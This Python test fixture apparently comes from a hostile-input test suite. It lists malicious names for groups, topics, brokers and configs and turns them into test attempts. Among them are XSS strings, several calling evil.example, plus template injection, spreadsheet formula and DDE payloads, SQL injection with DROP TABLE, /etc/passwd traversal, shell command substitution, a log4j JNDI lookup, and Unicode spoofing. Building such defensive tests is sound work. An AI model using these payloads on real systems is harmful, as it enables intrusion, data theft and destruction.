"""Names as a hostile client could choose them: of groups, topics, brokers' hosts and configs."""

from __future__ import annotations

from tests.hostile.attempts import Attempt

NAMES = {
    "script": "<script>alert(1)</script>",
    "script, closing": "</script><script>alert(2)</script>",
    "script, upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "image": "<img src=x onerror=alert(3)>",
    "svg": "<svg/onload=alert(4)>",
    "iframe": '<iframe src="javascript:alert(5)">',
    "attribute": '" onmouseover="alert(6)" x="',
    "attribute, single": "' onfocus='alert(7)' autofocus='",
    "attribute, none": " onclick=alert(8) ",
    "link": "javascript:alert(9)",
    "data link": "data:text/html,<script>alert(10)</script>",
    "style": "<style>@import'//evil.example/x.css';</style>",
    "css": "x;background:url(//evil.example/x)",
    "base": "<base href=//evil.example/>",
    "form": "<form action=//evil.example/><input name=x>",
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "comment": "--><script>alert(11)</script><!--",
    "cdata": "]]><script>alert(12)</script>",
    "title": "</title><script>alert(13)</script>",
    "textarea": "</textarea><script>alert(14)</script>",
    "template": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "template, other": "${7*7}<%= 7*7 %>#{7*7}",
    "htmx": '<div hx-get="//evil.example/x" hx-trigger="load">',
    "entities": "&lt;script&gt;alert(15)&lt;/script&gt;&amp;&#60;b&#62;",
    "formula": '=HYPERLINK("//evil.example/"&A1,"x")',
    "formula, command": "=cmd|'/C calc'!A0",
    "formula, plus": "+1+cmd|'/C calc'!A0",
    "formula, minus": "-1+cmd|'/C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula, tab": "\t=1+1",
    "separators": 'a,b;c\td"e""f',
    "lines": "a\nb\r\nc",
    "header": "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(16)</script>",
    "metric": 'x"} 1\nevil_metric{a="b',
    "metric, escape": 'x\\" } 1\\n',
    "sql": "' OR 1=1; DROP TABLE topics; --",
    "sql, comment": "*/ COPY (SELECT 1) TO '/tmp/x' /*",
    "path": "../../../../etc/passwd",
    "url": "a?b=c&d=e#f%2F%00%",
    "shell": "$(touch /tmp/x)`touch /tmp/x`;touch /tmp/x|",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "backspace": "abc\x08\x08\x08xyz",
    "right to left": "\u202egpj.exe\u202c",
    "isolates": "\u2066\u2067x\u2069\u2069",
    "zero width": "a\u200b\u200c\u200d\ufeffb",
    "separators of lines": "a\u2028b\u2029c",
    "combining": "Z" + "\u0334\u0335\u0336" * 60,
    "look-alike": "\u0430dmin",
    "elephants": "\U0001f418" * 100,
    "private use": "\ue000\uf8ff",
    "long": "x" * 2000,
    "blank": " ",
    "format": "%s%n%x{0}{name}%(x)s",
    "log4j": "${jndi:ldap://evil.example/a}",
    "json": '","role":"analyst","x":"',
    "proto": "__proto__",
    "null": "null",
    "number": "1e309",
}
PLACES = ("group", "topic", "broker", "config")
ATTEMPTS = tuple(
    Attempt(f"names: of a {place}", title, name)
    for place in PLACES
    for title, name in NAMES.items()
    # A topic, a host and a config have fewer ways out than a group, whose name is in most places.
    if place in ("group", "topic") or "script" in title or "formula" in title or len(title) < 6
)
